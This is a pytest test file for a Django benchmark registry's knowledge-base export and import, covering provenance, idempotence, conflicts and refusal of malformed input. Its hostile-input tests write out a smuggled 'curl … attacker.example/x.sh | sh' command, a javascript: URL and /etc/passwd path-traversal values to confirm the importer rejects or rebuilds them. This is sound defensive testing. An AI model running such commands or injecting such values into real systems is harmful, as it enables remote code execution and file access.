"""export_kb / import_kb: a whole knowledge base between installations, with provenance, idempotent, all or nothing."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from registry.kb.export import export_kb
from registry.kb.importer import KBError, import_kb
from registry.models import (
    BenchmarkRun,
    GGUFFile,
    Pair,
    ReportedResult,
)
from tests.knowledge_bases import COMMIT, HERE, a_doc, counts, empty_installation, large_kb, table_of, team_of
from tests.registering import reg

# db_service: CI runs these again on PostgreSQL.
pytestmark = [pytest.mark.django_db, pytest.mark.db_service, pytest.mark.usefixtures("installation_a")]

ROOT = Path(__file__).resolve().parents[2]


def test_the_export_is_versioned_json_with_provenance(kb_a, tmp_path):
    n = export_kb(tmp_path / "kb.json")
    doc = json.loads((tmp_path / "kb.json").read_text())
    assert doc["format"] == "specreg-knowledge-base" and doc["schema_version"] == "1.6"
    assert doc["installation"] == {
        "id": HERE,
        "rules_from": "b11434",
        "specreg_version": doc["installation"]["specreg_version"],
    }
    assert n == {
        "files": 4,
        "pairs": 2,
        "runs": 2,
        "reported": 1,
        "results": 4,
        "predictions": 1,
        "stability": 0,
        "notes": 3,
        "deployments": 1,
    }
    (pred,) = doc["runs"][1]["predictions"]
    assert (pred["k"], pred["speedup"], pred["near_ties"], pred["hardware_class"]) == (4, 0.7, 3, "cpu-2c/avx2")
    (dep,) = doc["sections"]["deployments"]
    assert "url" not in dep and "10.0.0.7" not in json.dumps(doc)  # a server inside A's network stays A's
    assert (dep["installation"], dep["author"], len(dep["samples"])) == (HERE, "alice", 3)
    assert {(n["installation"], n["author"]) for n in doc["sections"]["notes"]} == {(HERE, "alice")}
    assert len(doc["token_tables"]) == 3  # the two Qwen files share theirs
    assert {f["installation"] for f in doc["files"]} == {HERE}
    run = doc["runs"][0]
    assert (run["installation"], run["author"], run["hardware_class"], run["build"]) == (
        HERE,
        "alice",
        "cpu-2c",
        {"label": "b11000"},
    )
    assert [r["llama_cpp_build"] for r in doc["runs"][1]["results"]] == ["b11434 (abc1234)"] * 2
    rep = doc["reported"][0]
    assert (rep["installation"], rep["author"], rep["citation"]) == (HERE, "alice", "llama.cpp PR 10455")


def test_importing_into_an_empty_installation_twice_gives_the_same_records_once(kb_a, tmp_path, settings, client):
    export_kb(tmp_path / "kb.json")
    before = counts()
    empty_installation(settings, "installation-b")
    report = import_kb(tmp_path / "kb.json")
    assert report.source_installation == HERE
    assert report.counts == {
        "files added": 4,
        "runs added": 2,
        "measured results added": 4,
        "predicted results added": 1,
        "reported results added": 1,
        "notes added": 3,
        "deployments added": 1,
        "observed samples added": 3,
    }
    assert report.messages == []
    assert counts() == {**before, "BenchmarkRun": 2}  # the queued run stayed home
    run = BenchmarkRun.objects.order_by("origin_id").first()
    assert (run.origin_installation, run.origin_author, run.requested_by, run.status) == (HERE, "alice", None, "done")
    assert run.imported_at is not None and run.created_at < timezone.now() - timedelta(minutes=90)
    assert set(GGUFFile.objects.values_list("origin_installation", flat=True)) == {HERE}
    rep = ReportedResult.objects.get()
    assert (rep.origin_installation, rep.origin_author, rep.reported_by) == (HERE, "alice", None)
    html = client.get(rep.pair.get_absolute_url()).content.decode()
    assert 'alice <span class="muted small">at installation installation-a</span>' in html
    assert html.count("(imported from installation installation-a)") == 4  # each measured cell says so

    from registry.team.models import Deployment, Note

    d = Deployment.objects.get()
    assert (d.url, d.origin_installation, d.author_name, d.run.origin_installation) == ("", HERE, "alice", HERE)
    assert Note.objects.get(hidden=True).body.startswith("spam")
    assert [v.body for v in Note.objects.get(pair__isnull=False).versions.all()] == ["K=8 **held** in CI"]

    again = import_kb(tmp_path / "kb.json")
    assert again.counts == {
        "files already here": 4,
        "runs already here": 2,
        "reported results already here": 1,
        "notes already here": 3,
        "deployments already here": 1,
    }
    assert counts() == {**before, "BenchmarkRun": 2}

    # And its own export comes back into A unchanged: A's records are recognised as A's.
    export_kb(tmp_path / "kb-b.json")
    doc = json.loads((tmp_path / "kb-b.json").read_text())
    assert doc["installation"]["id"] == "installation-b" and {r["installation"] for r in doc["runs"]} == {HERE}
    assert {f["installation"] for f in doc["files"]} == {HERE}


def test_an_installation_importing_its_own_export_changes_nothing(kb_a, tmp_path):
    export_kb(tmp_path / "kb.json")
    before = counts()
    report = import_kb(tmp_path / "kb.json")
    assert report.counts == {
        "files already here": 4,
        "runs already here": 2,
        "reported results already here": 1,
        "notes already here": 3,
        "deployments already here": 1,
    }
    assert counts() == before


def test_conflicts_keep_both_with_their_provenance(kb_a, tmp_path, settings, infos):
    export_kb(tmp_path / "kb.json")
    empty_installation(settings, "installation-b")
    # B registered a different file under A's Qwen 0.5B name, and reported other figures for the same cell.
    reg(infos["gemma3"], "org/qwen05", "qwen05.gguf", commit=COMMIT, size=1)
    q15 = reg(infos["qwen15"], "org/qwen15", "qwen15.gguf", commit=COMMIT, size=1)
    reg(infos["qwen05"], "org/qwen05-b", "qwen05-b.gguf", commit=COMMIT, size=1)
    pair_b = Pair.objects.get(target=q15)
    ReportedResult.objects.create(
        pair=pair_b,
        k=24,
        speedup=1.2,
        acceptance=0.6,
        content_type="code",
        citation="our notes",
        hardware="M2 Ultra",
        llama_cpp_build="b4182",
    )
    report = import_kb(tmp_path / "kb.json")
    theirs = f"hf://org/qwen05@{COMMIT}/qwen05.gguf"
    assert any(
        m.startswith("file hf://org/qwen05/qwen05.gguf differs") and m.endswith(f"theirs as {theirs}")
        for m in report.messages
    )
    assert report.counts["files kept beside ours"] == 1
    assert GGUFFile.objects.get(source="hf://org/qwen05/qwen05.gguf").architecture == "gemma3"
    assert GGUFFile.objects.get(source=theirs).architecture == "qwen2"
    # Their 0.5B (under its revision's name) and B's qwen05-b are quants of one base model, so A's figures sit
    # on the pair B's figures are on; A's runs name the files they measured.
    pair_a = ReportedResult.objects.get(citation="llama.cpp PR 10455").pair
    assert pair_a == pair_b and pair_a.compatible and pair_a.best_kind == "measured"
    assert set(BenchmarkRun.objects.values_list("draft_file__source", flat=True)) == {theirs}
    assert [(r.citation, r.origin_installation) for r in ReportedResult.objects.order_by("pk")] == [
        ("our notes", ""),
        ("llama.cpp PR 10455", HERE),
    ]


def test_figures_for_the_same_cell_from_two_installations_are_both_kept(kb_a, tmp_path, settings, infos):
    export_kb(tmp_path / "kb.json")
    empty_installation(settings, "installation-b")
    reg(infos["qwen05"], "org/qwen05", "qwen05.gguf", commit=COMMIT, size=1)
    reg(infos["qwen15"], "org/qwen15", "qwen15.gguf", commit=COMMIT, size=1)
    pair = Pair.objects.get()
    ReportedResult.objects.create(
        pair=pair,
        k=24,
        speedup=1.2,
        acceptance=0.6,
        content_type="code",
        citation="our notes",
        hardware="M2 Ultra",
        llama_cpp_build="b4182",
    )
    report = import_kb(tmp_path / "kb.json")
    assert report.counts["files already here"] == 2 and report.counts["reported results kept beside ours"] == 1
    assert any("kept both, theirs from installation installation-a" in m for m in report.messages)
    assert sorted(ReportedResult.objects.filter(pair=pair).values_list("speedup", flat=True)) == [1.2, 1.9]


def manage(data_dir: Path, *args: str, script: str | None = None) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k not in ("DATABASE_URL", "SPECREG_INSTALLATION_ID", "CACHE_URL")}
    env.update(SPECREG_DATA_DIR=str(data_dir), DJANGO_SETTINGS_MODULE="registry.settings")
    cmd = [sys.executable, "manage.py", *args] if script is None else [sys.executable, "-c", script, *args]
    return subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, env=env, timeout=600)


TABLE_SCRIPT = """
import django, json
django.setup()
from django.test import Client
from tests.knowledge_bases import table_of, team_of
print(json.dumps({**table_of(Client(HTTP_HOST="localhost")), "team": team_of()}))
"""


def normalised(table: dict) -> dict:
    """The table as a visitor sees it, without what differs by installation (ids, check times)."""

    def strip(v):
        if isinstance(v, dict):
            # "origin" says where a figure came from: compared on its own in the test.
            return {
                k: strip(x) for k, x in v.items() if k not in ("id", "model_id", "checked_at", "changed_at", "origin")
            }
        if isinstance(v, list):
            return [strip(x) for x in v]
        return v

    html = table["html"]
    body = html[html.index("<table") : html.index("</table>")]
    body = re.sub(r'href="[^"]*"', "", body)
    body = re.sub(r"\d{4}-\d\d-\d\d[ T]\d\d:\d\d[^<\"]*", "", body)
    pages = {
        k: {
            f: strip(v[f])
            for f in ("compatible", "failed_rule", "checks", "measured", "reported", "build_changes", "recommendation")
        }
        for k, v in table["pages"].items()
    }
    return {"rows": strip(table["rows"]), "pages": pages, "html": body, "team": table["team"]}


@pytest.mark.slow
def test_an_export_imported_into_a_fresh_installation_shows_the_same_table(kb_a, tmp_path, client):
    kb, b_dir = tmp_path / "kb.json", tmp_path / "b"
    export_kb(kb)
    ta = {**table_of(client), "team": team_of()}  # installation A, as its visitors see it
    assert len(ta["rows"]) == 2 and ta["rows"][0]["best"]["kind"] == "measured"

    # Installation B: its own data folder and database, empty, then A's export.
    assert manage(b_dir, "migrate", "--noinput", "-v", "0").returncode == 0
    done = manage(b_dir, "import_kb", str(kb))
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[-1].startswith(f"imported {kb} from installation {HERE}: 4 files added")
    b = manage(b_dir, script=TABLE_SCRIPT)
    assert b.returncode == 0, b.stderr
    tb = json.loads(b.stdout)
    assert normalised(ta) == normalised(tb)
    origins = lambda t: {f["origin"] for p in t["pages"].values() for f in p["measured"] + p["reported"]}  # noqa: E731
    assert origins(ta) == {""} and origins(tb) == {HERE}  # made there, and said so here
    assert len(tb["team"]["notes"]) == 3 and tb["team"]["deployments"][0]["observed"]["acceptance"] == 0.8
    page = next(p for p in tb["pages"].values() if p["measured"])
    assert [c["direction"] for c in page["build_changes"]] == ["faster", "faster"]  # history travels too

    # B has its own stable id, and a second import adds nothing.
    id_b = (b_dir / "installation_id").read_text().strip()
    assert id_b != HERE and re.fullmatch(r"[0-9a-f-]{36}", id_b)
    again = manage(b_dir, "import_kb", str(kb))
    assert again.returncode == 0 and "added" not in again.stdout
    assert normalised(json.loads(manage(b_dir, script=TABLE_SCRIPT).stdout)) == normalised(tb)


def hostile_cases(doc: dict) -> dict[str, tuple[bytes, str]]:
    def with_(mutate) -> bytes:
        d = json.loads(json.dumps(doc))
        mutate(d)
        return json.dumps(d).encode()

    def last_run_bad(d):  # everything before it is fine: still nothing may be stored
        d["runs"][-1]["results"][-1]["k"] = -1

    def table_lies(d):
        t = d["token_tables"][0]
        t["sha256"] = "0" * 64

    def tokens_short(d):
        d["token_tables"][0]["count"] += 1

    def tokens_huge(d):
        d["token_tables"][0]["count"] = 4 * 1024 * 1024

    def info_types(d):
        d["files"][0]["info"]["tokenizer"]["n_tokens"] = "many"

    def vocab_key_lies(d):
        d["files"][0]["info"]["tokenizer"]["vocab_key"] = "gpt2:small"

    def xss(d):
        d["reported"][0]["source_url"] = "javascript:alert(1)"

    def unknown_file(d):
        d["runs"][0]["target"] = "hf://nobody/x/y.gguf"

    def huge_list(d):
        d["runs"][0]["results"] = d["runs"][0]["results"] * 10_001

    def note_on_two(d):
        d["sections"]["notes"][0]["file"] = d["files"][0]["source"]

    def deployment_elsewhere(d):
        d["sections"]["deployments"][0]["target"] = "/home/someone/else.gguf"

    def sample_text(d):
        d["sections"]["deployments"][0]["samples"][0]["draft_tokens"] = "lots"

    return {
        "note on two things": (with_(note_on_two), "is not on exactly one thing"),
        "deployment of an unknown file": (with_(deployment_elsewhere), "/home/someone/else.gguf: not among"),
        "sample not a number": (with_(sample_text), "sections.deployments: 0.samples.0.draft_tokens: Input should be"),
        "notes not a list": (
            with_(lambda d: d["sections"].update(notes={"a": 1})),
            "sections.notes: Input should be a valid list",
        ),
        "not json": (b'{"format": ', "not valid JSON"),
        "not utf-8": (b"\xff\xfe{}", "not UTF-8 text"),
        "nan": (json.dumps(doc).replace('"speedup": 1.9', '"speedup": NaN').encode(), "holds NaN"),
        "deep": (b"[" * 200_000 + b"]" * 200_000, "nested too deeply"),
        "big int": (with_(lambda d: d["runs"][0]["results"][0].update(drafted=2**70)), "does not fit in 64 bits"),
        "other format": (json.dumps({"format": "other"}).encode(), "not a specreg knowledge base"),
        "version 2": (with_(lambda d: d.update(schema_version="2.0")), "schema version 2.0 is not supported"),
        "version junk": (with_(lambda d: d.update(schema_version=["1"])), "schema_version must be a string"),
        "last record": (with_(last_run_bad), "runs.1.results.1.k: Input should be greater than or equal to 0"),
        "table hash": (with_(table_lies), "its content hashes to"),
        "table count": (with_(tokens_short), "its entries do not fill the blob exactly"),
        "table count huge": (with_(tokens_huge), "cannot hold 4,194,304 tokens"),
        "table count past bound": (
            with_(lambda d: d["token_tables"][0].update(count=2**40)),
            "token_tables.0.count: Input should be less than or equal to 4194304",
        ),
        "info types": (with_(info_types), "info.tokenizer.n_tokens: Input should be a valid integer"),
        "vocab key": (with_(vocab_key_lies), "vocabulary key does not match"),
        "javascript url": (with_(xss), "source_url must be an http(s) address"),
        "unknown file": (with_(unknown_file), "hf://nobody/x/y.gguf: not among the file's files"),
        # 20,002 results are refused by the record bound (16 MiB) before the schema counts them (20,000 at most)
        "too many results": (with_(huge_list), "runs.0: one record of more than 16,777,216 bytes"),
    }


@pytest.mark.slow
def test_a_hostile_or_malformed_file_is_refused_in_one_line_and_changes_nothing(kb_a, tmp_path, settings):
    doc = a_doc(kb_a)
    empty_installation(settings, "installation-b")
    before = counts()
    for name, (raw, expected) in hostile_cases(doc).items():
        path = tmp_path / f"{name}.json"
        path.write_bytes(raw)
        with pytest.raises(KBError) as err:
            import_kb(path)
            pytest.fail(f"{name} was imported")
        message = str(err.value)
        assert expected in message and "\n" not in message and len(message) < 500, (name, message)
        assert counts() == before, name
    settings.SPECREG_KB_MAX_BYTES = 1000
    with pytest.raises(KBError, match="more than SPECREG_KB_MAX_BYTES"):
        import_kb(path)
    with pytest.raises(KBError, match="No such file"):
        import_kb(tmp_path / "missing.json")


def test_the_commands_answer_in_one_line_with_exit_status_2(tmp_path):
    bad = tmp_path / "v9.json"
    bad.write_text(json.dumps({"format": "specreg-knowledge-base", "schema_version": "9.1"}))
    out = manage(tmp_path / "d", "import_kb", str(bad))
    assert out.returncode == 2 and out.stdout == ""
    assert out.stderr == (
        f"import_kb: {bad}: nothing imported: schema version 9.1 is not supported: this specreg "
        "reads 1.x (export it with a specreg that writes 1.x)\n"
    )
    out = manage(tmp_path / "d", "export_kb", str(tmp_path / "no-such-dir" / "kb.json"))
    assert out.returncode == 2 and out.stderr.count("\n") == 1 and "No such file or directory" in out.stderr


def test_the_installation_id_is_kept_in_the_data_folder(tmp_path):
    show = "import django; django.setup(); from django.conf import settings; print(settings.SPECREG_INSTALLATION_ID)"
    first, second = (manage(tmp_path / "d", script=show).stdout for _ in range(2))
    other = manage(tmp_path / "e", script=show).stdout
    assert first == second != other and re.fullmatch(r"[0-9a-f-]{36}\n", first)
    assert (tmp_path / "d" / "installation_id").read_text().strip() == first.strip()


def test_a_section_this_installation_does_not_know_is_skipped_and_said_so(kb_a, tmp_path, settings):
    doc = a_doc(kb_a)
    doc["sections"]["incidents"] = [{"what": "outage"}]
    (tmp_path / "kb.json").write_text(json.dumps(doc))
    empty_installation(settings, "installation-b")
    report = import_kb(tmp_path / "kb.json")
    assert report.messages == ["section 'incidents' skipped: this installation does not keep such records"]
    assert report.counts["notes added"] == 3


def test_import_kb_reports_what_it_did(kb_a, tmp_path, settings):
    export_kb(tmp_path / "kb.json")
    empty_installation(settings, "installation-b")
    lines: list[str] = []

    class Out:
        def write(self, s):
            lines.extend(s.rstrip("\n").split("\n"))

        def flush(self):
            pass

    call_command("import_kb", str(tmp_path / "kb.json"), stdout=Out())
    assert lines[-1] == (
        f"imported {tmp_path / 'kb.json'} from installation {HERE}: 4 files added, 2 runs added, "
        "4 measured results added, 1 predicted results added, 1 reported results added, 3 notes added, "
        "1 deployments added, 3 observed samples added"
    )


# --- import_kb streams its input and takes only what the forms take ----------------------------------------


def _renamed(doc: dict, old: str, new: str) -> bytes:
    return json.dumps(doc).replace(json.dumps(old), json.dumps(new)).encode()


def test_a_local_path_source_is_refused_in_one_line_unless_the_operator_allows_it(kb_a, tmp_path, settings):
    doc = a_doc(kb_a)
    kb = tmp_path / "passwd.json"
    kb.write_bytes(_renamed(doc, "hf://org/qwen05/qwen05.gguf", "/etc/passwd"))
    empty_installation(settings, "installation-b")
    before = counts()
    with pytest.raises(KBError) as err:
        import_kb(kb)
    message = str(err.value)
    assert message.startswith("file /etc/passwd: a local path;") and "--allow-local-paths" in message
    assert "\n" not in message and counts() == before
    # The command says it in one line, exit status 2; with the option the name is taken (nothing is read there).
    out = manage(tmp_path / "c", "migrate", "--noinput", "-v", "0")
    assert out.returncode == 0, out.stderr
    out = manage(tmp_path / "c", "import_kb", str(kb))
    assert (
        out.returncode == 2
        and out.stdout == ""
        and out.stderr.count("\n") == 1
        and "/etc/passwd: a local path" in out.stderr
    )
    report = import_kb(kb, allow_local_paths=True)
    assert report.counts["files added"] == 4 and GGUFFile.objects.filter(source="/etc/passwd").exists()
    # Other names that are neither hf:// nor registered here are refused even so.
    for source in (
        "relative/x.gguf",
        "http://10.0.0.1/x.gguf",
        "hf://datasets/x/y.gguf",
        "hf://a/b/../c.gguf",
        "/tmp/x\n.gguf",
    ):
        (tmp_path / "other.json").write_bytes(_renamed(doc, "hf://org/qwen15/qwen15.gguf", source))
        with pytest.raises(KBError, match=r"^file ") as err:
            import_kb(tmp_path / "other.json", allow_local_paths=True)
        assert "\n" not in str(err.value), source


def test_unknown_methods_and_figures_the_forms_refuse_are_refused(kb_a, tmp_path, settings):
    doc = a_doc(kb_a)
    empty_installation(settings, "installation-b")
    before = counts()

    def refused(mutate, expected: str) -> None:
        d = json.loads(json.dumps(doc))
        mutate(d)
        (tmp_path / "kb.json").write_text(json.dumps(d))
        with pytest.raises(KBError, match=expected):
            import_kb(tmp_path / "kb.json")
        assert counts() == before

    dep = lambda d: d["sections"]["deployments"][0]  # noqa: E731
    refused(
        lambda d: dep(d).update(method="draft-telepathy"), r"deployment \d+ of installation-a: method 'draft-telepathy'"
    )
    refused(lambda d: dep(d).update(k=0), "K=0: expected 1 to 1024")
    refused(lambda d: dep(d).update(draft=None), "needs a draft")
    refused(lambda d: dep(d).update(command="x" * 9000), "at most 8,000 characters")
    refused(
        lambda d: d["runs"][0]["results"][0].update(method="draft-telepathy"),
        r"runs\.0\.results\.0\.method: Value error, method must be one of",
    )
    refused(lambda d: d["reported"][0].update(acceptance=70.8), r"reported\.0\.acceptance: .*between 0 and 1")
    refused(lambda d: d["reported"][0].update(speedup=0), r"reported\.0\.speedup: .*above 0")


KB_MEMORY_PROBE = """
import json, resource, sys
import django
django.setup()
from registry.kb.importer import import_kb
import registry.team.kb_sections  # everything an import loads, loaded before the baseline
base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
report = import_kb(sys.argv[1])
print(json.dumps({"peak_mb": (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base) / 1024,
                  "counts": report.counts}))
"""


@pytest.mark.slow
def test_a_large_file_is_imported_in_bounded_memory(kb_a, tmp_path):
    """A 50 MB file: the old import parsed it whole, then copied it twice (json_safe, pydantic), 460 MB over
    its baseline for this one (2.6 GB for a larger file); streamed, it takes about one record."""
    kb = tmp_path / "large.json"
    export_kb(tmp_path / "kb.json")
    n = large_kb(json.loads((tmp_path / "kb.json").read_text()), kb, 50)
    assert kb.stat().st_size > 45e6
    b_dir = tmp_path / "b"
    assert manage(b_dir, "migrate", "--noinput", "-v", "0").returncode == 0
    out = manage(b_dir, str(kb), script=KB_MEMORY_PROBE)
    assert out.returncode == 0, out.stderr[-2000:]
    got = json.loads(out.stdout)
    assert got["counts"]["runs added"] == n + 2
    assert got["peak_mb"] < 150, got


def test_imported_commands_are_rebuilt_and_file_records_follow_their_source(kb_a, tmp_path, settings, client):
    """An imported run's command and unit never reach the pair page, the API, "Record as
    deployed" or the downloads word for word; a file record's repo and path come from its source."""
    doc = a_doc(kb_a)
    evil = "llama-server -m x; curl -s https://attacker.example/x.sh | sh #"
    for r in doc["runs"]:
        r["server_command"], r["systemd_unit"] = evil, f"[Service]\nExecStart={evil}\n"
        for x in r["results"]:
            x["speedup"], x["speedup_min"], x["speedup_max"], x["pairs"] = 1.3 + x["k"] / 100, 1.25, 1.5, 3
    for f in doc["files"]:
        f["repo"], f["path"] = "attacker/elsewhere", "../../etc/passwd"
    empty_installation(settings, "installation-b")
    (tmp_path / "kb.json").write_text(json.dumps(doc))
    import_kb(tmp_path / "kb.json")
    assert not GGUFFile.objects.filter(repo="attacker/elsewhere").exists()
    assert set(GGUFFile.objects.values_list("repo", flat=True)) == {
        "org/qwen05",
        "org/qwen15",
        "org/smollm2",
        "org/gemma3",
    }
    pair = Pair.objects.get(target__repo="org/qwen15", draft__repo="org/qwen05")
    api = client.get(f"/api/pairs/{pair.pk}").json()
    page = client.get(f"/pairs/{pair.pk}/").content.decode()
    run = BenchmarkRun.objects.filter(pair=pair).exclude(origin_installation="").first()
    run_page = client.get(f"/runs/{run.pk}/").content.decode()
    unit = client.get(f"/runs/{run.pk}/unit").content.decode()
    for shown in (json.dumps(api), page, run_page, unit, run.server_command, run.systemd_unit):
        assert "attacker.example" not in shown
    assert api["recommendation"]["command"].startswith("llama-server -m models/qwen15.gguf")
    assert "--spec-draft-n-max 8" in api["recommendation"]["command"]  # the best measured K, rebuilt
    c = Client()
    c.force_login(User.objects.create_user("bob", password="y" * 12))
    form = c.get(f"/deployments/new?run={run.pk}").context["form"].initial
    assert "attacker.example" not in form["command"] and form["command"].startswith("llama-server")


def test_one_big_record_is_refused_in_one_line(kb_a, tmp_path, settings):
    """A record is built whole (~16x its size): bounded in values and bytes (small settings here)."""
    doc = a_doc(kb_a)
    empty_installation(settings, "installation-b")
    before = counts()
    big = json.loads(json.dumps(doc))
    big["runs"][0]["results"][0]["divergences"] = [{"prompt": i, "position": i} for i in range(10_000)]
    (tmp_path / "kb.json").write_text(json.dumps(big))
    settings.SPECREG_KB_MAX_RECORD_VALUES = 5000
    with pytest.raises(KBError, match=r"^runs\.0: one record of more than 5,000 values"):
        import_kb(tmp_path / "kb.json")
    settings.SPECREG_KB_MAX_RECORD_VALUES, settings.SPECREG_KB_MAX_RECORD_BYTES = 10**7, 300_000
    with pytest.raises(KBError, match=r"^runs\.0: one record of more than 300,000 bytes"):
        import_kb(tmp_path / "kb.json")
    assert counts() == before
    settings.SPECREG_KB_MAX_RECORD_BYTES = 16 * 1024**2
    (tmp_path / "kb.json").write_text(json.dumps(doc))
    import_kb(tmp_path / "kb.json")  # the real export still imports
